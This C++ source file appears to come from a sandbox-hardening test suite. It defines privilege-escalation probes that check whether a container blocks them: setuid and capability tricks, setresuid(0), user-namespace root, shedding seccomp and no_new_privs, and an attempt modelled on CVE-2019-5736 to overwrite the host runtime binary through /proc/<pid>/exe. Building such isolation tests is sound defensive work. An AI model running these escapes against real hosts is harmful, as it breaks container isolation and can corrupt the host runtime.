// Gaining rights.
#include <fcntl.h>
#include <grp.h>
#include <linux/capability.h>
#include <linux/securebits.h>
#include <sched.h>
#include <sys/fsuid.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cstring>
#include <string>

#include "suite/programs/attack.h"

namespace belljar::suite {

namespace {

// The program stays in place, with whatever rights it was given, for the host to look at.
Outcome exec_for_rights(const std::string& path) {
  const pid_t child = ::fork();
  if (child < 0) return denied("fork");
  if (child == 0) {
    (void)::execl(path.c_str(), "belljar-probe", "gained", static_cast<char*>(nullptr));
    _exit(126);
  }
  (void)::usleep(60'000);
  int status = 0;
  if (::waitpid(child, &status, WNOHANG) == child) return denied("run " + path, EACCES);
  return done("runs " + path);
}

Outcome setuid_program(const Params& given) { return exec_for_rights(given.get("shared") + "/setuid"); }
Outcome file_capabilities(const Params& given) { return exec_for_rights(given.get("shared") + "/capped"); }

int set_capabilities(std::uint32_t bits) {
  __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
  const std::array<__user_cap_data_struct, 2> data{__user_cap_data_struct{bits, bits, bits},
                                                   __user_cap_data_struct{0, 0, 0}};
  return static_cast<int>(::syscall(SYS_capset, &header, data.data()));
}

constexpr std::uint32_t kSetUid = 1U << CAP_SETUID;

Outcome held_capabilities(const Params&) { return done("holds whatever it was given"); }
Outcome take_capabilities(const Params&) { return of_call(set_capabilities(kSetUid), "capset"); }
Outcome ambient(const Params&) {
  (void)set_capabilities(kSetUid);
  return of_call(::prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SETUID, 0, 0), "raise an ambient capability");
}
Outcome secure_bits(const Params&) {
  return of_call(::prctl(PR_SET_SECUREBITS, SECBIT_KEEP_CAPS, 0, 0, 0), "set secure bits");
}
Outcome become_root(const Params&) {
  return any_of({of_call(::syscall(SYS_setresuid, 0, 0, 0), "setresuid 0"),
                 of_call(::syscall(SYS_setuid, 0), "setuid 0"), of_call(::syscall(SYS_setreuid, 0, 0), "setreuid 0")});
}
Outcome become_root_group(const Params&) {
  return any_of(
      {of_call(::syscall(SYS_setresgid, 0, 0, 0), "setresgid 0"), of_call(::syscall(SYS_setgid, 0), "setgid 0")});
}
Outcome join_groups(const Params&) {
  const gid_t group = 0;
  return of_call(::setgroups(1, &group), "setgroups");
}

Outcome root_of_own_namespace(const Params&) {
  const uid_t user = ::geteuid();
  if (::unshare(CLONE_NEWUSER) != 0) return denied("unshare a user namespace");
  const int fd = ::open("/proc/self/uid_map", O_WRONLY | O_CLOEXEC);
  const std::string line = "0 " + std::to_string(user) + " 1";
  (void)!::write(fd, line.data(), line.size());
  return escaped("has every capability in an own user namespace");
}

// CVE-2019-5736: keep the program of the one who started us open, and write to it once it has ended.
Outcome overwrite_runtime(const Params& given) {
  Outcome last = denied("no program of a supervisor in sight", ENOENT);
  for (const std::string& pid : {std::string{"1"}, given.get("boss"), given.get("rpid"), std::string{"self"}}) {
    if (pid.empty()) continue;
    const std::string path = "/proc/" + pid + "/exe";
    const int program = ::open(path.c_str(), O_PATH | O_CLOEXEC);
    if (program < 0) {
      last = denied("open " + path);
      continue;
    }
    if (pid != given.get("rpid")) continue;
    const std::string again = "/proc/self/fd/" + std::to_string(program);
    for (int tries = 0; tries < 400; ++tries) {
      const int fd = ::open(again.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
      if (fd >= 0) return of_call(::write(fd, "mine", 4), "overwrite the supervisor's program");
      last = denied("open " + path + " for writing");
      if (errno != ETXTBSY) break;
      (void)::usleep(5'000);
    }
  }
  return last;
}

Outcome shed_restrictions(const Params&) {
  (void)::prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0);
  return done("tried to shed no_new_privs");
}
Outcome shed_filter(const Params&) {
  (void)::prctl(PR_SET_SECCOMP, 0, 0, 0, 0);
  return done("tried to shed the filter");
}

Outcome give_away(const Params& given) {
  const std::string path = scratch_path(given, "mine");
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  (void)!::write(fd, "x", 1);
  return any_of({of_call(::fchown(fd, 65534, 65534), "give a file to another user"),
                 of_call(::fchown(fd, 0, 0), "give a file to root")});
}

Outcome inherited(const Params&) { return done("holds whatever was left open"); }

constexpr Attack kAttacks[] = {
    {"PRIV01", setuid_program},        {"PRIV02", file_capabilities}, {"PRIV03", held_capabilities},
    {"PRIV04", take_capabilities},     {"PRIV05", ambient},           {"PRIV06", secure_bits},
    {"PRIV07", become_root},           {"PRIV08", become_root_group}, {"PRIV09", join_groups},
    {"PRIV10", root_of_own_namespace}, {"PRIV11", overwrite_runtime}, {"PRIV13", shed_restrictions},
    {"PRIV14", shed_filter},           {"PRIV15", give_away},         {"PRIV17", inherited},
};

}  // namespace

std::span<const Attack> priv_attacks() { return kAttacks; }

}  // namespace belljar::suite
